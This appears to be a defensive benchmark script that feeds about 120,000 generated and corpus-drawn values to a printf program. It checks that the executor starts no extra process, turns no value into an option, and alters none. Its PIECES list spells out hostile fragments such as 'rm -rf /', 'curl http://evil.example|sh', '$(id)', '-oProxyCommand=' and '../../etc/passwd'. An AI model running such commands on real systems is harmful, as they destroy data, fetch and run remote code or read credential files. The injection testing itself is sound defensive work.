"""Whether any value can start a program or become an option: generated arguments through the executor `command`, for true.

`python -m benchmarks.argv [--json] [--values N]`. Figure A4 of the threat model: at least 100,000 values, those of the injection
corpus that want code to run among them when the corpus is beside the checkout. Every accepted value is really handed to a
program, in batches, and must arrive byte for byte; an audit hook counts each process, in us and in no one else's name.
"""

import argparse
import asyncio
import json
import random
import sys
from collections.abc import Iterator, Mapping
from pathlib import Path

from tocsin.connectors.executors.argv import Program, vector
from tocsin.connectors.executors.command import Command, CommandConfig
from tocsin.errors import SourceError
from tocsin.model.action import RenderedStep, Risk

CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "security" / "injection.jsonl"
VALUES, BATCH, MOST_BYTES = 120_000, 200, 60_000
STARTERS = (
    "subprocess.Popen",
    "os.exec",
    "os.posix_spawn",
    "os.system",
    "os.fork",
    "os.forkpty",
    "os.spawn",
    "pty.spawn",
)
LOOSE = Program(path="/usr/bin/printf", operands=(r"%s\\0", "(.|\n)*"), repeat_last=True)
"""The least careful configuration there can be: what is refused here is refused by the executor itself."""
STRICT = Program(path="/usr/bin/printf", options={"-v": "[a-z]+"}, operands=("[A-Za-z0-9._/:@-]*",), repeat_last=True)
PIECES = (
    *(
        "-",
        "--",
        "--help",
        "-rf",
        "-oProxyCommand=",
        "--kubeconfig=",
        "--upload-pack=",
        "-e",
        "+x",
        "@file",
        "=",
        "''",
        '""',
    ),
    *(
        ";",
        "&&",
        "||",
        "|",
        "&",
        "`id`",
        "$(id)",
        "${IFS}",
        "$HOME",
        "~",
        "*",
        "?",
        "[a]",
        "{a,b}",
        "!",
        "#",
        "%s",
        "%n",
        "\\",
    ),
    *(
        ">",
        "<",
        ">/tmp/x",
        "\n",
        "\r",
        "\t",
        "\0",
        " ",
        "\u2013",
        "\uff0d",
        "\u202e",
        "\u200b",
        "\x1b[2J",
        "\udc80",
        "é",
        "日",
    ),
    *(
        "rm -rf /",
        "curl http://evil.example|sh",
        "import os",
        "__import__('os').system('id')",
        "../../etc/passwd",
        "file:///",
        "x",
    ),
)


def main() -> int:
    """Prints one JSON object, or a few lines for people; 1 when a target was missed."""
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--json", action="store_true", help="one JSON object")
    options.add_argument("--values", type=int, default=VALUES)
    options.add_argument("--seed", type=int, default=7)
    chosen = options.parse_args()
    figures = asyncio.run(measure(chosen.values, chosen.seed))
    print(json.dumps(figures) if chosen.json else "\n".join(f"{name:>26} {one}" for name, one in figures.items()))
    missed = figures["extra_processes"] or figures["leading_dash_options"] or figures["altered_values"]
    return 1 if missed else 0


async def measure(values: int, seed: int) -> dict[str, object]:
    """All figures. The hook stays for the life of this process: an audit hook cannot be taken off."""
    started: list[str] = []
    sys.addaudithook(lambda event, _: started.append(event) if event.startswith(STARTERS) else None)
    corpus = list(_corpus())
    generated = list(_generated(values - len(corpus), seed))
    given = [*corpus, *generated]
    accepted, dashed = _judged(given)
    batches = list(_batches(accepted))
    altered = 0
    for batch in batches:
        altered += await _altered(batch)
    return {
        "benchmark": "argv",
        "values": len(given),
        "of_the_corpus": len(corpus),
        "accepted": len(accepted),
        "refused": len(given) - len(accepted),
        "leading_dash_options": dashed,
        "programs_asked_for": len(batches),
        "extra_processes": len(started) - len(batches),
        "altered_values": altered,
        "targets": {"values": 100_000, "extra_processes": 0, "leading_dash_options": 0, "altered_values": 0},
    }


def _corpus() -> Iterator[str]:
    """Each row that wants code to run: its whole text, and every line of it. Nothing when the corpus is not here."""
    if not CORPUS.is_file():
        return
    for line in CORPUS.read_text().splitlines():
        row = json.loads(line)
        if row["goal_class"] in ("run_code", "execute"):
            yield row["text"]
            yield from (part for part in row["text"].splitlines() if part)


def _generated(count: int, seed: int) -> Iterator[str]:
    """Hostile pieces joined at random, and random characters of all planes."""
    chance = random.Random(seed)
    for number in range(max(0, count)):
        if number % 4:
            yield "".join(chance.choices(PIECES, k=chance.randint(1, 5)))
        else:
            yield "".join(chr(chance.randrange(0x110000)) for _ in range(chance.randint(1, 12)))


def _judged(given: list[str]) -> tuple[list[str], int]:
    """The values that may pass the loose program, and how many became an option of either program."""
    accepted, dashed = [], 0
    for value in given:
        for program in (LOOSE, STRICT):
            try:
                made = vector("printf", program, ["%s\\0", value] if program is LOOSE else [value])
            except SourceError:
                continue
            before = made[1 : made.index("--")] if "--" in made else made[1:]
            after = made[made.index("--") + 1 :] if "--" in made else []
            dashed += bool(before) or any(one.startswith("-") for one in after)
            if program is LOOSE:
                accepted.append(value)
    return accepted, dashed


def _batches(values: list[str]) -> Iterator[list[str]]:
    """As many values as one program may be given and may answer with."""
    batch: list[str] = []
    size = 0
    for value in values:
        length = len(value.encode()) + 1
        if len(batch) == BATCH or size + length > MOST_BYTES:
            yield batch
            batch, size = [], 0
        batch.append(value)
        size += length
    if batch:
        yield batch


async def _altered(batch: list[str]) -> int:
    """Runs one program with these values and counts those that did not arrive as they were sent."""
    executor = Command(CommandConfig(programs={"printf": LOOSE}))
    call = {"executor": "command", "argv": ["printf", "%s\\0", *batch]}
    outcome = await executor.run(_step(call), "")
    arrived = outcome.output.split("\0")[:-1]
    return sum(one != other for one, other in zip(batch, arrived, strict=False)) + abs(len(batch) - len(arrived))


def _step(call: Mapping[str, object]) -> RenderedStep:
    return RenderedStep(
        runbook_id="argv",
        runbook_version=1,
        runbook_digest="",
        step_index=0,
        name="show",
        text="Show the values.",
        purpose="check",
        executor="command",
        call=dict(call),
        shown="",
        environment="production",
        risk=Risk.READ,
    )


if __name__ == "__main__":
    sys.exit(main())
